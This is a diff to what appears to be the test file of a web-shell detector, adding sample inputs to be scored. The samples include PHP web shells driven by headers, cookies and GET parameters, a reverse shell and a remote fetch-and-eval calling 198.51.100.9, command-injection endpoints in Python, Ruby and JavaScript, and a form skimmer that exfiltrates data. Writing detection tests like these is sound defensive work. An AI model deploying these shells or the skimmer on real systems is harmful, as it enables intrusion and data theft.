@@ -25,6 +25,8 @@ def weight(source: str) -> int:
         "set_error_handler($_GET['h']); trigger_error($_GET['a']);",
         "array_walk($_GET, 'assert');",
         "mb_ereg_replace('.*', $_POST['x'], '', 'e');",
+        "$f = $_SERVER['HTTP_X_FN']; array_filter(array($_SERVER['HTTP_X_ARG']), $f);",
+        "$f = $_COOKIE['f']; ob_start($f); echo $_COOKIE['a']; ob_end_flush();",
         '$t=fsockopen("198.51.100.9",443); proc_open("/bin/sh -i",[0=>$t,1=>$t,2=>$t],$x);',
         "$c=file_get_contents('http://198.51.100.9/a.txt'); eval('?>'.$c);",
     ],
@@ -79,6 +81,8 @@ def test_comments_are_taken_out_only_where_they_part_words() -> None:
         ("x.py", '@app.get("/x")\ndef x(c: str):\n    return os.popen(c).read()\n'),
         ("x.rb", 'get "/x" do\n  `#{params[:c]}`\nend\n'),
         ("x.js", "require('http').createServer((q, r) => require('child_process').exec(parse(q.url, true).query.c))"),
+        ("x.py", "import os\nos.system(os.environ.get('HTTP_X_STAT', 'true'))\n"),
+        ("x.js", "f.onsubmit = () => { var d = new FormData(f); new Image().src = atob('aHR0') + '?' + btoa(d) }"),
         ("x.js", "const e = require('express')(); e.use((q, r) => r.send(new Function(q.headers['x-a'])()));"),
     ],
 )
